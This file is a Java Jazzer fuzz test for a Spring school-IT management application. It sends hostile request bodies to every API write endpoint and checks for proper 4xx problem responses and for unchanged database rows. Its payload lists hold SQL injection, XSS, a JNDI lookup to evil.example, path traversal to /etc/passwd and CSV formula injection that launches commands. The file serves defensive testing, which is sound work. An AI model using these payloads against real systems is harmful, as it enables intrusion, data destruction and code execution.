package org.entente.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.entente.TestAccounts.as;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collection;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentSkipListSet;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.CRC32;

import com.code_intelligence.jazzer.api.BugDetectors;
import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import com.code_intelligence.jazzer.junit.FuzzTest;
import org.entente.EntenteTest;
import org.entente.TestDatabases;
import org.junit.jupiter.api.AfterAll;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.core.MethodParameter;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Hostile input over every API write that reads a body, as a Jazzer fuzz target: {@link #hostileBody} takes the fuzz
 * data, picks one intake (listed from the handler mappings, so a new intake cannot be forgotten), starts from a valid
 * body (written below for the raw and loosely typed intakes, generated from the {@code @RequestBody} type for the
 * others), applies one {@link Kind} of hostile change driven by the data (wrong types, nulls and nulls in arrays, huge
 * numbers and strings, invalid UTF-8, BOMs, deep nesting, injection strings, formulas, CSV quoting and lines, duplicate
 * keys, truncation, the fuzzer's own bytes spliced in or as the whole body) and sends it to the application (one Spring
 * context, MockMvc). The bar: every answer is a 2xx or a 4xx problem document ({@code application/problem+json} with
 * a detail), never a 5xx; a refused import (and any dry run) leaves its tables' row counts unchanged.
 * <p>
 * The fuzz data, as {@link FuzzedDataProvider} reads it (integers from the end, the rest from the start): three bytes
 * select the intake (the {@link #selector} of its key, so that a seed keeps its intake when endpoints are added; any
 * other value picks by position), one byte the kind, two the place in the body, two a size or choice, and the remaining
 * bytes are material (a string, bytes to splice or the whole body).
 * <p>
 * In CI (regression mode) the seeds of {@code src/test/resources/org/entente/web/HostileInputFuzzTestsInputs/hostileBody/}
 * run, one per intake (the kinds taken in turn) and the inputs that once failed; {@link #report} fails when an intake has no seed, and
 * {@code -Dentente.fuzz.write-seeds=true} writes the missing ones. A fuzzing session: docs/developing.md.
 * <p>
 * On a database of its own: valid bodies really create assets, tickets and purchases.
 */
@EntenteTest
@DirtiesContext
class HostileInputFuzzTests {

	@DynamicPropertySource
	static void ownDatabase(DynamicPropertyRegistry registry) {
		TestDatabases.isolate(registry, "hostile_fuzz");
	}

	static final JsonMapper JSON = JsonMapper.builder().build();

	static final JsonNodeFactory NODES = JsonNodeFactory.instance;

	static final AtomicInteger REQUESTS = new AtomicInteger();

	static final AtomicInteger FINDINGS = new AtomicInteger();

	/** The intakes the inputs of this run reached. */
	static final Set<String> REACHED = new ConcurrentSkipListSet<>();

	static volatile List<Intake> intakes;

	static volatile long started;

	static final boolean FUZZING = System.getenv("JAZZER_FUZZ") != null && !System.getenv("JAZZER_FUZZ").isEmpty();

	static final Path SEEDS_DIR = Path.of("src/test/resources/org/entente/web/HostileInputFuzzTestsInputs/hostileBody");

	static final String ASSET_CSV = "uai,component,network,name,serial,manufacturer,model,funding,acquired,warrantyEnd,status\n"
			+ "0359901X,VIDEOPROJECTEURS,PEDAGOGICAL,VP-FUZZ,FUZZ-SERIAL,Epson,EB,CD,2024-01-01,2027-01-01,IN_SERVICE\n";

	static final String IDENTITY_CSV = "guuid,uid,lastName,firstName,civility,birthDate,status,function,uai,class,department\n"
			+ "G-fuzz,fuzz.eleve,Durand,Léa,MME,2012-03-04,PUPIL,,0359901X,5e B,\n";

	/** A valid body (content type, text) for the intakes whose body is raw or a JsonNode. */
	static final Map<String, Seed> SEEDS = new LinkedHashMap<>();
	record Seed(String contentType, String body, String query, List<String> tables, boolean dryRun) {
	}

	static {
		SEEDS.put("POST /api/v1/assets/import", new Seed("text/csv", ASSET_CSV, "dryRun=false", List.of("inv_asset", "inv_asset_change"), false));
		SEEDS.put("POST /api/v1/establishments/import", new Seed("text/csv",
				"uai,name,commune,kind\n0359977Z,Collège Fuzz,Rennes,COLLEGE\n", "dryRun=false", List.of("establishment"), false));
		SEEDS.put("POST /api/v1/establishments/network-ranges", new Seed("text/csv",
				"uai,reseau,libelle\n0359901X,10.98.17.0/24,fuzz\n", "dryRun=true", List.of("establishment_network_range"), true));
		SEEDS.put("POST /api/v1/accounts/import", new Seed("text/csv",
				"username,displayName,email,role\nfuzz.import,Fuzz Import,fuzz.import@example.org,COLLEGE\n", "dryRun=true",
				List.of("account", "directory_account_change"), true));
		SEEDS.put("POST /api/v1/privacy/identities/import", new Seed("text/csv", IDENTITY_CSV, "mode=partial&dryRun=true",
				List.of("privacy_identity", "privacy_import"), true));
		SEEDS.put("POST /api/v1/backups/reports", new Seed("application/json", """
				{"uai":"0359901X","dataClass":"ADMINISTRATIVE","job":"fuzz","startedAt":"2026-12-01T02:00:00+01:00","endedAt":"2026-12-01T03:00:00+01:00","status":"SUCCESS","oldestRestorePoint":"2026-11-20T03:00:00+01:00"}""",
				null, List.of(), false));
		SEEDS.put("POST /api/v1/security/incidents", new Seed("application/json", """
				{"establishments":["0359901X"],"component":"STATIONS_PEDAGOGIQUES","title":"Fuzz","description":"Message suspect.","detectedAt":"2026-03-14T09:30:00+01:00","personalData":false}""",
				null, List.of(), false));
		SEEDS.put("POST /api/v1/security/breaches", new Seed("application/json",
				"{\"awareAt\":\"2026-11-30T10:00:00+01:00\",\"nature\":\"Ordinateur portable volé\"}", null, List.of(), false));
		SEEDS.put("POST /api/v1/webhooks", new Seed("application/json",
				"{\"url\": \"http://hooks.example.org/fuzz\", \"events\": [\"ticket.opened\"]}", null, List.of("webhook_endpoint"), false));
		SEEDS.put("POST /api/v1/policies/{code}/versions", new Seed("application/json",
				"{\"title\":\"Fuzz\",\"summary\":\"résumé\",\"effectiveOn\":\"2026-09-01\",\"link\":\"https://example.org/p.pdf\"}", null, List.of(), false));
		SEEDS.put("POST /api/v1/inventory/glpi-agent", new Seed("application/json", """
				{"action":"inventory","deviceid":"fuzz-2026-12-01-10-00-00","itemtype":"Computer","content":{"hardware":{"name":"PC-FUZZ"},"bios":{"ssn":"FUZZ-BIOS"}}}""",
				null, List.of(), false));
		SEEDS.put("POST /api/v1/convention/versions", new Seed("application/yaml", "version: 1\nparties: [CD]\n", null,
				List.of("convention_version"), false));
		SEEDS.put("POST /api/v1/tickets", new Seed("application/json", """
				{"establishment":"0359901X","title":"Fuzz","description":"Plus rien ne marche depuis ce matin.","component":"ADDUCTION_INTERNET","intervention":"REPAIR"}""",
				null, List.of(), false));
		SEEDS.put("POST /api/v1/inventory/referentiel", new Seed("application/json", """
				{"note":"fuzz","lines":[{"component":"INCONNU-FUZZ","kind":"Vidéoprojecteur","lifetimeYears":7}]}""", null,
				List.of("inv_referentiel", "inv_referentiel_line"), false));
	}

	/** The account that reaches furthest into each API area (the others would stop at 403). */
	static final Map<String, String> USERS = new LinkedHashMap<>();

	static {
		USERS.put("/api/v1/tickets", "college");
		USERS.put("/api/v1/assets", "agent.cd");
		USERS.put("/api/v1/inventory/glpi-agent", "glpi-agent");
		USERS.put("/api/v1/backups", "glpi-agent");
		USERS.put("/api/v1/inventory", "agent.cd");
		USERS.put("/api/v1/security", "rssi");
		USERS.put("/api/v1/privacy/identities", "dpo");
		USERS.put("/api/v1/privacy", "dpd");
		USERS.put("/api/v1/policies", "agent.aca");
		USERS.put("/api/v1/byod", "agent.cd");
		USERS.put("/api/v1/governance", "gestion.cd");
	}

	/** Writes left out, with the reason. */
	static final Map<String, String> SKIPPED = Map.of("POST /api/v1/privacy/register",
			"a processing created there (generated bodies say feedsIdentities) blocks every identity import of the shared context until its copy is sent: fuzzed by PUT /api/v1/privacy/register/{id} on a missing id",
			"POST /api/v1/privacy/purges",
			"runs the purge: it reads no body (AccessMatrixTests leaves it out too)", "POST /api/v1/reporting/rebuild",
			"recounts the aggregates: it reads no body");

	static final Map<String, String> MISSING = Map.of("id", "999999999", "uai", "0999999Z", "username", "inconnu.fuzz",
			"code", "INCONNU", "number", "999999", "year", "1999", "uid", "inconnu.fuzz", "actionId", "999999999",
			"month", "1999-01");

	private static final Pattern VARIABLE = Pattern.compile("\\{\\*?([A-Za-z0-9_]+)(:[^}]*)?\\}");

	@Autowired
	MockMvcTester mvc;

	@Autowired
	ApplicationContext context;

	@Autowired
	JdbcTemplate jdbc;

	record Intake(HttpMethod method, String pattern, String contentType, String body, String query, List<String> tables,
			boolean dryRun) {

		String key() {
			return method + " " + pattern;
		}

		boolean json() {
			return contentType.contains("json");
		}
	}

	/** The stable selector of an intake (24 bits of the CRC-32 of its key). */
	static int selector(String key) {
		CRC32 crc = new CRC32();
		crc.update(key.getBytes(StandardCharsets.UTF_8));
		return (int) (crc.getValue() & 0xFFFFFF);
	}

	/** What the fuzz data asks for, read in {@link FuzzedDataProvider}'s order. */
	record Input(Intake intake, Kind kind, int where, int size, byte[] material) {

		static Input read(FuzzedDataProvider data, List<Intake> intakes) {
			int selector = data.consumeInt(0, 0xFFFFFF);
			Kind kind = Kind.values()[data.consumeInt(0, Kind.values().length - 1)];
			int where = data.consumeInt(0, 0xFFFF);
			int size = data.consumeInt(0, 0xFFFF);
			byte[] material = data.consumeRemainingAsBytes();
			Intake intake = intakes.stream().filter(i -> selector(i.key()) == selector).findFirst()
				.orElse(intakes.get(selector % intakes.size()));
			return new Input(intake, kind, where, size, material);
		}

		/** The bytes that {@link #read} reads back as this input (the integers little-endian at the end, last read first). */
		byte[] bytes() {
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			out.writeBytes(material);
			out.write(size & 0xFF);
			out.write(size >> 8);
			out.write(where & 0xFF);
			out.write(where >> 8);
			out.write(kind.ordinal());
			int selector = selector(intake.key());
			out.write(selector & 0xFF);
			out.write((selector >> 8) & 0xFF);
			out.write(selector >> 16);
			return out.toByteArray();
		}

		String materialText() {
			return new String(material, StandardCharsets.UTF_8);
		}
	}

	@FuzzTest(maxDuration = "10m")
	void hostileBody(FuzzedDataProvider data) throws Exception {
		List<Intake> all = intakes();
		boolean selected = data.remainingBytes() >= 3; // not the empty input, which picks the first intake
		Input input = Input.read(data, all);
		Intake intake = input.intake();
		if (selected) {
			REACHED.add(intake.key());
		}
		byte[] body = input.kind().apply(input);
		Map<String, Long> before = counts(intake.tables());
		MvcTestResult r;
		// The application's own connections (the database pool, a webhook check) are not server-side request forgery.
		try (var allowed = BugDetectors.allowNetworkConnections()) {
			r = send(intake, body);
		}
		int status = r.getResponse().getStatus();
		String text = new String(r.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
		String where = intake.key() + " " + input.kind() + " (place " + input.where() + ", size " + input.size() + ") body "
				+ excerpt(body) + " -> " + status + " " + excerpt(text.getBytes(StandardCharsets.UTF_8));
		List<String> findings = new ArrayList<>();
		if (status >= 500) {
			findings.add(where);
		}
		else if (status >= 400 && !isProblem(r, text)) {
			findings.add("not a problem document (" + r.getResponse().getContentType() + "): " + where);
		}
		if ((status >= 400 || intake.dryRun()) && !intake.tables().isEmpty()) {
			Map<String, Long> after = counts(intake.tables());
			if (!after.equals(before)) {
				findings.add("rows changed " + before + " -> " + after + ": " + where);
			}
		}
		FINDINGS.addAndGet(findings.size());
		assertThat(findings).as(intake.key()).isEmpty();
	}

	@AfterAll
	static void report() throws IOException {
		System.out.printf("HostileInputFuzzTests: %d requests, %d findings, %.1f s, %d of %d intakes reached%n", REQUESTS.get(),
				FINDINGS.get(), (System.nanoTime() - started) / 1e9, REACHED.size(), intakes == null ? 0 : intakes.size());
		if (intakes == null || FUZZING) {
			return;
		}
		Set<String> missing = new TreeSet<>();
		for (Intake i : intakes) {
			if (!REACHED.contains(i.key())) {
				missing.add(i.key());
			}
		}
		if (Boolean.getBoolean("entente.fuzz.write-seeds")) {
			writeSeeds(missing);
			return;
		}
		assertThat(missing).as("intakes without a seed in " + SEEDS_DIR + ": write them with "
				+ "mvn -o surefire:test@fuzz-regression -Dtest=HostileInputFuzzTests -Dentente.fuzz.write-seeds=true").isEmpty();
	}

	/** A seed for each intake not reached yet, of a kind that changes with the intake (each kind serves three or four). */
	private static void writeSeeds(Set<String> missing) throws IOException {
		Files.createDirectories(SEEDS_DIR);
		Kind[] kinds = Kind.values();
		for (int n = 0; n < intakes.size(); n++) {
			Intake i = intakes.get(n);
			if (!missing.contains(i.key())) {
				continue;
			}
			Kind kind = kinds[n % kinds.length];
			Input input = new Input(i, kind, 17 * (n + 1), 31 * (n + 3), kind.seedMaterial());
			String name = (i.key().replaceAll("[^A-Za-z0-9]+", "_") + "-" + kind).toLowerCase();
			Files.write(SEEDS_DIR.resolve(name), input.bytes());
			System.out.println("HostileInputFuzzTests: seed written for " + i.key() + " (" + kind + ")");
		}
	}

	private static boolean isProblem(MvcTestResult r, String text) {
		String type = r.getResponse().getContentType();
		if (type == null || !MediaType.parseMediaType(type).isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)) {
			return false;
		}
		try {
			JsonNode node = JSON.readTree(text);
			JsonNode detail = node.get("detail");
			return node.has("status") && detail != null && !detail.asString().isBlank();
		}
		catch (RuntimeException e) {
			return false;
		}
	}

	private Map<String, Long> counts(List<String> tables) {
		Map<String, Long> counts = new TreeMap<>();
		for (String t : tables) {
			counts.put(t, jdbc.queryForObject("select count(*) from " + t, Long.class));
		}
		return counts;
	}

	private MvcTestResult send(Intake intake, byte[] body) {
		REQUESTS.incrementAndGet();
		Matcher m = VARIABLE.matcher(intake.pattern());
		StringBuilder uri = new StringBuilder();
		while (m.find()) {
			m.appendReplacement(uri, Matcher.quoteReplacement(MISSING.getOrDefault(m.group(1), "999999999")));
		}
		m.appendTail(uri);
		if (intake.query() != null) {
			uri.append('?').append(intake.query());
		}
		String user = USERS.entrySet().stream().filter(e -> intake.pattern().startsWith(e.getKey())).map(Map.Entry::getValue)
			.findFirst().orElse("admin");
		return mvc.method(intake.method()).uri(uri.toString()).contentType(intake.contentType()).content(body)
			.with(as(user)).exchange();
	}

	// --- the kinds of hostile change ---

	static final List<String> HOSTILE_STRINGS = List.of("'; drop table ticket; --", "' or '1'='1", "<script>alert(1)</script>",
			"${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "\u0000", "\u202Egnp.exe", "\uFEFF", "\r\n\r\n",
			"../../../../etc/passwd", "%00", "%C3%28", "\\u0000", "𝕱𝖚𝖟𝖟 😈", "\uD800", "9".repeat(400), "-0", "1e400", "NaN",
			"true", "null", "[]", "{}", "*", "%", "_", "\\", "\"", "a\u0000b");

	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
			"+1+1", "-2+3", "=1+1", "\t=1", "\r=1", "=cmd|' /C calc'!A0");

	/** One kind of hostile change; each reads the place, the size and the material of the input its own way. */
	enum Kind {
		TRUNCATED {
			byte[] apply(Input in) {
				byte[] b = utf8(in.intake().body());
				return Arrays.copyOf(b, in.where() % Math.max(1, b.length));
			}
		},
		WRONG_TYPE {
			byte[] apply(Input in) {
				return in.intake().json() ? json(in, old -> wrongType(old, in.size())) : csvCell(in, pick(in.size(), "abc", "-1", "1.5", "vrai", "2026-13-45"));
			}
		},
		NULL {
			byte[] apply(Input in) {
				if (!in.intake().json()) {
					return csvCell(in, "");
				}
				return in.size() % 4 == 0 ? utf8("null") : json(in, old -> NODES.nullNode());
			}
		},
		NULL_IN_ARRAY {
			byte[] apply(Input in) {
				if (!in.intake().json()) {
					return utf8(in.intake().body() + ",,,,\n" + "\"\"".repeat(1 + in.size() % 5) + "\n");
				}
				JsonNode root = JSON.readTree(in.intake().body());
				List<ArrayNode> arrays = new ArrayList<>();
				arrays(root, arrays);
				if (arrays.isEmpty()) {
					return utf8("[null, " + in.intake().body() + "]");
				}
				ArrayNode a = arrays.get(in.where() % arrays.size());
				a.insert(a.isEmpty() ? 0 : in.size() % (a.size() + 1), NODES.nullNode());
				return JSON.writeValueAsBytes(root);
			}
		},
		HUGE_NUMBER {
			byte[] apply(Input in) {
				String digits = "9".repeat(20 + in.size() % 2000);
				return in.intake().json() ? json(in, old -> NODES.numberNode(new java.math.BigInteger(digits)))
						: csvCell(in, pick(in.size(), digits, "1e400", "-9223372036854775809"));
			}
		},
		HUGE_STRING {
			byte[] apply(Input in) {
				String unit = in.material().length == 0 ? "é" : in.materialText();
				String big = unit.repeat(Math.max(1, (12_000 + in.size()) / Math.max(1, unit.length())));
				return in.intake().json() ? json(in, old -> NODES.stringNode(big)) : csvCell(in, big);
			}
		},
		INVALID_UTF8 {
			byte[] apply(Input in) {
				byte[][] bad = { { (byte) 0xC3, 0x28 }, { (byte) 0xFF }, { (byte) 0xED, (byte) 0xA0, (byte) 0x80 },
						{ (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 }, { (byte) 0xE2, (byte) 0x82 },
						{ (byte) 0xC0, (byte) 0xAF } };
				byte[] b = utf8(in.intake().body());
				return splice(b, insideText(in.intake().body(), in.where()), bad[in.size() % bad.length]);
			}
		},
		BOM {
			byte[] apply(Input in) {
				byte[] bom = in.size() % 2 == 0 ? new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF } : new byte[] { (byte) 0xFE, (byte) 0xFF };
				return splice(utf8(in.intake().body()), 0, bom);
			}
		},
		DEEP_NESTING {
			byte[] apply(Input in) {
				int depth = 600 + in.size() % 6000;
				String deep = in.size() % 2 == 0 ? "[".repeat(depth) + "]".repeat(depth) : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
				return in.intake().json() ? replaceFirstValue(in.intake().body(), deep) : utf8(in.intake().body() + deep + "\n");
			}
		},
		INJECTION {
			byte[] apply(Input in) {
				String s = HOSTILE_STRINGS.get(in.size() % HOSTILE_STRINGS.size()) + in.materialText();
				return in.intake().json() ? json(in, old -> NODES.stringNode(s)) : csvCell(in, s);
			}
		},
		FORMULA {
			byte[] apply(Input in) {
				String s = FORMULAS.get(in.size() % FORMULAS.size()) + in.materialText();
				return in.intake().json() ? json(in, old -> NODES.stringNode(s)) : csvCell(in, s);
			}
		},
		FUZZED_STRING {
			byte[] apply(Input in) {
				String s = in.materialText();
				return in.intake().json() ? json(in, old -> NODES.stringNode(s)) : csvCell(in, s);
			}
		},
		DUPLICATE_KEY {
			byte[] apply(Input in) {
				String body = in.intake().body();
				if (in.intake().json() && body.trim().startsWith("{") && body.contains("\":")) {
					String key = body.substring(body.indexOf('"'), body.indexOf("\":") + 2);
					return utf8(body.trim().replaceFirst("\\{", Matcher.quoteReplacement("{" + key + "[1,{\"x\":2}],")));
				}
				String[] lines = body.split("\n", 2);
				return utf8(lines[0] + "," + lines[0].split(",")[0] + "\n" + (lines.length > 1 ? lines[1] : ""));
			}
		},
		CSV_QUOTES {
			byte[] apply(Input in) {
				String s = in.intake().body();
				int at = insideText(s, in.where());
				String q = pick(in.size(), "\"", "\"\"\"", "\\\"", "'", "\",\"", "\n\"", "\"x\"y", ";", "\r");
				byte[] b = utf8(s);
				return splice(b, Math.min(at, b.length), utf8(q));
			}
		},
		MANY_LINES {
			byte[] apply(Input in) {
				int n = 100 + in.size() % 1000;
				if (in.intake().json()) {
					return utf8("[" + (in.intake().body() + ",").repeat(n) + "{}]");
				}
				StringBuilder sb = new StringBuilder(in.intake().body());
				String line = in.intake().body().split("\n")[1];
				for (int k = 0; k < n; k++) {
					sb.append(line.replace("FUZZ", "FZ" + k).replace("fuzz", "fz" + k)).append(k % 2 == 0 ? "\r\n" : "\n");
				}
				return utf8(sb.toString());
			}
		},
		SPLICED_BYTES {
			byte[] apply(Input in) {
				byte[] b = utf8(in.intake().body());
				return splice(b, in.where() % (b.length + 1), in.material());
			}
		},
		RAW_BYTES {
			byte[] apply(Input in) {
				return in.material();
			}
		};

		abstract byte[] apply(Input in);

		/** The material a written seed starts from. */
		byte[] seedMaterial() {
			return switch (this) {
				case HUGE_STRING -> utf8("Ω");
				case INJECTION -> utf8(" x");
				case FUZZED_STRING -> utf8("é\u0000\u2028\"\\");
				case SPLICED_BYTES -> utf8("\"},{\"a\":[");
				case RAW_BYTES -> new byte[] { '{', (byte) 0xC3, '"', ':', '[', 0, '\n' };
				default -> new byte[0];
			};
		}
	}

	private static byte[] utf8(String s) {
		return s.getBytes(StandardCharsets.UTF_8);
	}

	private static String pick(int n, String... values) {
		return values[n % values.length];
	}

	private static byte[] splice(byte[] b, int at, byte[] insert) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(b, 0, at);
		out.write(insert, 0, insert.length);
		out.write(b, at, b.length - at);
		return out.toByteArray();
	}

	/** A byte position inside the text (after the CSV header, inside the JSON), on a character boundary. */
	private static int insideText(String s, int where) {
		int from = s.indexOf('\n') >= 0 && s.indexOf('\n') < s.length() - 1 ? s.indexOf('\n') + 1 : Math.min(1, s.length());
		String head = s.substring(0, from + where % Math.max(1, s.length() - from));
		return head.getBytes(StandardCharsets.UTF_8).length;
	}

	private static byte[] csvCell(Input in, String value) {
		String[] lines = in.intake().body().split("\n");
		String[] cells = lines[lines.length - 1].split(",", -1);
		String v = value.contains(",") || value.contains("\"") || value.contains("\n") || value.contains("\r")
				? "\"" + value.replace("\"", "\"\"") + "\"" : value;
		cells[in.where() % cells.length] = v;
		lines[lines.length - 1] = String.join(",", cells);
		return utf8(String.join("\n", lines) + "\n");
	}

	private static byte[] replaceFirstValue(String body, String value) {
		int colon = body.indexOf(':');
		if (colon < 0 || !body.trim().startsWith("{")) {
			return utf8(value);
		}
		int end = colon + 1;
		int depth = 0;
		boolean inString = false;
		for (; end < body.length(); end++) {
			char c = body.charAt(end);
			if (c == '"' && body.charAt(end - 1) != '\\') {
				inString = !inString;
			}
			else if (!inString && (c == '{' || c == '[')) {
				depth++;
			}
			else if (!inString && (c == '}' || c == ']')) {
				if (depth-- == 0) {
					break;
				}
			}
			else if (!inString && c == ',' && depth == 0) {
				break;
			}
		}
		return utf8(body.substring(0, colon + 1) + value + body.substring(end));
	}

	/** The body with one node (the input's place among all of them) replaced. */
	private static byte[] json(Input in, java.util.function.UnaryOperator<JsonNode> replace) {
		JsonNode root = JSON.readTree(in.intake().body());
		List<Object[]> slots = new ArrayList<>();
		collect(root, slots);
		if (slots.isEmpty()) {
			return JSON.writeValueAsBytes(replace.apply(root));
		}
		Object[] slot = slots.get(in.where() % slots.size());
		JsonNode old = slot[0] instanceof ObjectNode o ? o.get((String) slot[1]) : ((ArrayNode) slot[0]).get((Integer) slot[1]);
		JsonNode now = replace.apply(old);
		if (slot[0] instanceof ObjectNode o) {
			o.set((String) slot[1], now);
		}
		else {
			((ArrayNode) slot[0]).set((Integer) slot[1], now);
		}
		return JSON.writeValueAsBytes(root);
	}

	private static void collect(JsonNode node, List<Object[]> slots) {
		if (node instanceof ObjectNode o) {
			for (String name : o.propertyNames()) {
				slots.add(new Object[] { o, name });
				collect(o.get(name), slots);
			}
		}
		else if (node instanceof ArrayNode a) {
			for (int k = 0; k < a.size(); k++) {
				slots.add(new Object[] { a, k });
				collect(a.get(k), slots);
			}
		}
	}

	private static void arrays(JsonNode node, List<ArrayNode> found) {
		if (node instanceof ArrayNode a) {
			found.add(a);
		}
		if (node != null && node.isContainer()) {
			for (JsonNode child : node) {
				arrays(child, found);
			}
		}
	}

	private static JsonNode wrongType(JsonNode node, int choice) {
		boolean first = choice % 2 == 0;
		if (node == null || node.isString()) {
			return first ? NODES.numberNode(42) : NODES.objectNode().put("x", 1);
		}
		if (node.isNumber() || node.isBoolean()) {
			return first ? NODES.stringNode("quarante-deux") : NODES.arrayNode().add(1);
		}
		if (node.isArray()) {
			return first ? NODES.stringNode("liste") : NODES.objectNode();
		}
		return first ? NODES.arrayNode().add("x") : NODES.numberNode(-1);
	}

	// --- the intakes, from the handler mappings ---

	private List<Intake> intakes() {
		if (intakes == null) {
			synchronized (HostileInputFuzzTests.class) {
				if (intakes == null) {
					started = System.nanoTime();
					List<Intake> all = mapped();
					assertThat(all).hasSizeGreaterThan(40);
					assertThat(all.stream().map(i -> selector(i.key())).distinct().count()).as("one selector per intake")
						.isEqualTo(all.size());
					System.out.println("HostileInputFuzzTests: " + all.size() + " intakes");
					intakes = all;
				}
			}
		}
		return intakes;
	}

	private List<Intake> mapped() {
		List<Intake> all = new ArrayList<>();
		for (RequestMappingHandlerMapping mapping : context.getBeansOfType(RequestMappingHandlerMapping.class).values()) {
			for (Map.Entry<RequestMappingInfo, HandlerMethod> e : mapping.getHandlerMethods().entrySet()) {
				RequestMappingInfo info = e.getKey();
				HandlerMethod hm = e.getValue();
				for (String pattern : info.getPatternValues()) {
					if (!pattern.startsWith("/api/")) {
						continue;
					}
					for (RequestMethod rm : info.getMethodsCondition().getMethods()) {
						if (rm != RequestMethod.POST && rm != RequestMethod.PUT && rm != RequestMethod.PATCH) {
							continue;
						}
						HttpMethod method = rm.asHttpMethod();
						String key = method + " " + pattern;
						if (SKIPPED.containsKey(key)) {
							continue;
						}
						MediaType consumes = info.getConsumesCondition().getConsumableMediaTypes().stream()
							.filter(t -> !t.isWildcardType() && !t.isWildcardSubtype()).findFirst().orElse(null);
						if (consumes != null && consumes.isCompatibleWith(MediaType.MULTIPART_FORM_DATA)) {
							continue; // multipart bodies: ErrorShapesTests and the upload tests
						}
						Seed seed = SEEDS.get(key);
						if (seed != null && (consumes == null || MediaType.parseMediaType(seed.contentType()).isCompatibleWith(consumes))) {
							all.add(new Intake(method, pattern, seed.contentType(), seed.body(), seed.query(), seed.tables(), seed.dryRun()));
							continue;
						}
						MethodParameter body = Arrays.stream(hm.getMethodParameters())
							.filter(p -> p.hasParameterAnnotation(RequestBody.class)).findFirst().orElse(null);
						String type = consumes == null ? "application/json" : consumes.toString();
						String text = body == null ? "{}" : JSON.writeValueAsString(sample(body.getGenericParameterType(), 0));
						if (!type.contains("json")) {
							type = "application/json";
						}
						all.add(new Intake(method, pattern, type, text, null, List.of(), false));
					}
				}
			}
		}
		all.sort(Comparator.comparing(Intake::pattern).thenComparing(i -> i.method().name()));
		return all;
	}

	/** A plausible value of a Java type, for a body generated from the handler's {@code @RequestBody} type. */
	static Object sample(Type type, int depth) {
		if (type instanceof ParameterizedType p) {
			Class<?> raw = (Class<?>) p.getRawType();
			Type[] args = p.getActualTypeArguments();
			if (Collection.class.isAssignableFrom(raw)) {
				return List.of(sample(args[0], depth + 1));
			}
			if (Map.class.isAssignableFrom(raw)) {
				return Map.of("displayName", sample(args[1], depth + 1));
			}
			return sample(raw, depth);
		}
		if (!(type instanceof Class<?> c) || depth > 4) {
			return "fuzz";
		}
		if (c == String.class || c == Object.class || CharSequence.class.isAssignableFrom(c)) {
			return "fuzz";
		}
		if (c == int.class || c == Integer.class || c == long.class || c == Long.class || c == short.class) {
			return 1;
		}
		if (c == double.class || c == Double.class || c == java.math.BigDecimal.class || c == float.class) {
			return 1.5;
		}
		if (c == boolean.class || c == Boolean.class) {
			return false; // true would switch on options with effects on shared state
		}
		if (c.isEnum()) {
			return c.getEnumConstants()[0].toString();
		}
		if (c == java.time.LocalDate.class) {
			return "2026-09-01";
		}
		if (c == java.time.Instant.class || c == java.time.OffsetDateTime.class || c == java.time.ZonedDateTime.class) {
			return "2026-12-01T10:00:00Z";
		}
		if (c == java.time.LocalDateTime.class) {
			return "2026-12-01T10:00:00";
		}
		if (c == java.time.LocalTime.class) {
			return "10:00";
		}
		if (c == java.time.YearMonth.class) {
			return "2026-11";
		}
		if (c == java.time.Duration.class) {
			return "PT1H";
		}
		if (c == java.util.UUID.class) {
			return "f0f0f0f0-0000-4000-8000-000000000017";
		}
		if (c.isArray()) {
			return c.getComponentType() == byte.class ? "fuzz" : List.of(sample(c.getComponentType(), depth + 1));
		}
		if (JsonNode.class.isAssignableFrom(c) || Map.class.isAssignableFrom(c)) {
			return Map.of();
		}
		if (Collection.class.isAssignableFrom(c)) {
			return List.of();
		}
		Map<String, Object> fields = new LinkedHashMap<>();
		if (c.isRecord()) {
			for (RecordComponent rc : c.getRecordComponents()) {
				fields.put(rc.getName(), sample(rc.getGenericType(), depth + 1));
			}
		}
		else {
			for (var f : c.getDeclaredFields()) {
				if (!java.lang.reflect.Modifier.isStatic(f.getModifiers())) {
					fields.put(f.getName(), sample(f.getGenericType(), depth + 1));
				}
			}
		}
		return fields;
	}

	static String excerpt(byte[] b) {
		String s = new String(b, 0, Math.min(b.length, 160), StandardCharsets.UTF_8).replace("\n", "\\n");
		return b.length > 160 ? s + "…(" + b.length + " octets)" : s;
	}

}
